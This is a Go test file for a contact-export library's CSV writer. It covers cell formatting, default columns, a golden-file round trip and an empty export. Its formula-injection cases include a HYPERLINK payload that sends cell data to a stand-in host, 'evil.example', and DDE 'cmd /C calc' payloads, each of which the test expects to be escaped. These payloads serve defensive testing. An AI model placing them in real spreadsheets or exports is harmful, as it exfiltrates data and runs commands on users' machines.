package transfer_test

import (
	"encoding/csv"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"segmentql/db"
	"segmentql/filter"
	"segmentql/transfer"
)

// cells are what a contact with the fields has in a CSV file with the columns.
func cells(t *testing.T, p db.ContactPatch, columns ...string) (header, row []string) {
	t.Helper()
	ws := openWorkspace(t)
	if _, err := ws.CreateContact(t.Context(), p); err != nil {
		t.Fatal(err)
	}
	text := export(t, ws, transfer.ExportOptions{Format: transfer.CSV, Columns: columns})
	if strings.Contains(text, "\r\n") {
		t.Errorf("a row ends with CRLF in %q", text)
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%v in\n%s", err, text)
	}
	return rows[0], rows[1]
}

func TestExportCells(t *testing.T) {
	for _, c := range []struct {
		value any
		want  string
	}{
		{nil, ""},
		{"", ""},
		{`a "b", c;` + "\nd", `a "b", c;` + "\nd"},
		{int64(-5), "-5"},
		{-2.5, "-2.5"},
		{-1e300, "-1e+300"},
		{false, "false"},
		{filter.NewDate(2026, 3, 1), "2026-03-01"},
		{instantOf(t, "2026-03-01T09:00:00.5Z"), "2026-03-01T09:00:00.500Z"},
		{[]any{}, ""},
		{[]any{"a", "b c"}, "a;b c"},
		{[]any{"a;b"}, `["a;b"]`},
		{[]any{"a,b", "c"}, `["a,b","c"]`},
		{[]any{" a"}, `[" a"]`},
		{[]any{""}, `[""]`},
		{[]any{"[a"}, `["[a"]`},
		{[]any{int64(1), "a", nil, true}, `[1,"a",null,true]`},
		{[]any{filter.Object{"a": 1.5}}, `[{"a":1.5}]`},
		{filter.Object{}, ""},
		{filter.Object{"a": int64(1), "b": filter.NewDate(2026, 3, 1)}, `{"a":1,"b":{"$date":"2026-03-01"}}`},
		// What a spreadsheet would run:
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("https://evil.example?"&A1)`, `'=HYPERLINK("https://evil.example?"&A1)`},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-1+A1", "'-1+A1"},
		{"-A1", "'-A1"},
		{"+=1", "'+=1"},
		{"-@x", "'-@x"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\n=1", "'\n=1"},
		{"＝1", "'＝1"},
		{"＠a", "'＠a"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{[]any{"=a", "b", "-c"}, "'=a;b;'-c"},
		// And what it would not:
		{"+4915112345", "+4915112345"},
		{"+49 (0)151 / 12-34.5", "+49 (0)151 / 12-34.5"},
		{"-5", "-5"},
		{"-", "-"},
		{"a=b", "a=b"},
		{"'=1", "'=1"},
		{"ada@example.com", "ada@example.com"},
	} {
		if _, row := cells(t, db.ContactPatch{Custom: filter.Object{"v": c.value}}, "custom.v"); row[0] != c.want {
			t.Errorf("%#v becomes %q, want %q", c.value, row[0], c.want)
		}
	}
}

// TestExportDefaultColumns has a column for each thing that contacts have, and none twice.
func TestExportDefaultColumns(t *testing.T) {
	mapLike := filter.Object{}
	for i := range db.MaxKeys + 1 {
		mapLike[fmt.Sprintf("key%d", i)] = int64(i)
	}
	deep := any("x")
	for range db.MaxCustomDepth - 1 {
		deep = filter.Object{"d": deep}
	}
	header, row := cells(t, db.ContactPatch{Email: new("a@b.cd"), Tags: &[]string{"x", "y"}, Custom: filter.Object{
		"plan": "pro", "address": filter.Object{"city": "Köln", "geo": filter.Object{"lat": 1.5}}, "a": int64(1), "a-b": filter.Object{"c": true},
		"orders": []any{filter.Object{"no": int64(1)}}, "data": mapLike, "none": filter.Object{}, "mixed": []any{"t", filter.Object{"k": "v"}}, "deep": deep,
	}})
	want := []string{
		"email", "phone", "firstName", "lastName", "status", "subscribedAt", "tags",
		"custom.a", "custom.a-b.c", "custom.address.city", "custom.address.geo.lat", "custom.data",
		"custom.deep" + strings.Repeat(".d", 30), "custom.mixed", "custom.none", "custom.orders", "custom.plan",
	}
	if !slices.Equal(header, want) {
		t.Errorf("got\n%q, want\n%q", header, want)
	}
	got := map[string]string{}
	for i, name := range header {
		got[name] = row[i]
	}
	for name, want := range map[string]string{
		"tags": "x;y", "status": "PENDING", "phone": "", "custom.a-b.c": "true", "custom.orders": `[{"no":1}]`, "custom.mixed": `["t",{"k":"v"}]`,
		want[12]: `{"d":"x"}`,
	} {
		if got[name] != want {
			t.Errorf("%s is %q, want %q", name, got[name], want)
		}
	}
	if !strings.HasPrefix(got["custom.data"], `{"key0":0,"key1":1,"key10":10,`) {
		t.Errorf("custom.data is %s", got["custom.data"])
	}
}

// TestExportGolden writes a file that people may get to see, and reads it again.
func TestExportGolden(t *testing.T) {
	ws := openWorkspace(t)
	subscribed := db.Subscribed
	for _, p := range []db.ContactPatch{
		full(t),
		{Email: new("bob@example.com"), Phone: new("+44 20 7946 0000"), FirstName: new("=1+1"), Status: &subscribed, Tags: &[]string{"a,b", "c"}, Custom: filter.Object{"whole": int64(-5)}},
		{FirstName: new("Nobody"), LastName: new("two\nlines")},
	} {
		if _, err := ws.CreateContact(t.Context(), p); err != nil {
			t.Fatal(err)
		}
	}
	got := export(t, ws, transfer.ExportOptions{Format: transfer.CSV})
	want, err := os.ReadFile("testdata/export.csv")
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	again := openWorkspace(t)
	summary, err := transfer.Import(t.Context(), again, strings.NewReader(got), transfer.Options{})
	if err != nil {
		t.Fatal(err)
	}
	wantSummary(t, summary, "2 created, 0 updated, 1 rejected")
	bob, err := again.ContactByEmail(t.Context(), "bob@example.com")
	if err != nil || !slices.Equal(bob.Tags, []string{"a,b", "c"}) || bob.Phone != "+442079460000" || bob.Custom["whole"] != int64(-5) {
		t.Errorf("imported as %+v, %v", bob, err)
	}
}

// TestExportOfNobody writes a header all the same.
func TestExportOfNobody(t *testing.T) {
	if got, want := export(t, openWorkspace(t), transfer.ExportOptions{Format: transfer.CSV}), "email,phone,firstName,lastName,status,subscribedAt,tags\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}
